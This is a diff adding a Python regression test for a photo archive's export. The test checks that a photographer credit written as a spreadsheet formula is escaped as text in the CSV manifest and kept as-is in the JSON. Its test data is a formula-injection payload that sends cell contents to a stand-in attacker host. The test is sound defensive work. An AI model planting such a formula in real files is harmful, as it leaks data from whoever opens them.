@@ -137,3 +137,24 @@ def test_a_failed_export_leaves_no_file(world, tmp_path, monkeypatch):  # noqa: 
         assert len(calls) == 2
     assert [p.name for p in folder.iterdir()] == ["may-day.zip"]  # no new.zip, no .part
     assert earlier.read_bytes() == kept
+
+
+def test_review_a_credit_that_is_a_formula_is_text_in_the_csv(world, tmp_path):  # noqa: F811
+    """Found in the attacker review: a photographer's credit ``=HYPERLINK(…)`` went into
+    manifest.csv as it was, a formula for whoever opens it in a spreadsheet."""
+    from archive.extensions import db
+
+    app = world
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'
+    with freeze_time(RELEASED), app.app_context():
+        photo = add_photo("may-day")
+        photo.photographer.credit_name = formula
+        db.session.commit()
+    out = tmp_path / "may-day.zip"
+    with app.app_context():
+        assert export(app, "may-day", "--out", str(out)).exit_code == 0
+    with zipfile.ZipFile(out) as zf:
+        [row] = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode())))
+        [entry] = json.loads(zf.read("manifest.json"))
+    assert row["credit"] == "'" + formula  # text to a spreadsheet
+    assert entry["credit"] == formula  # JSON is data, not a sheet: as it is
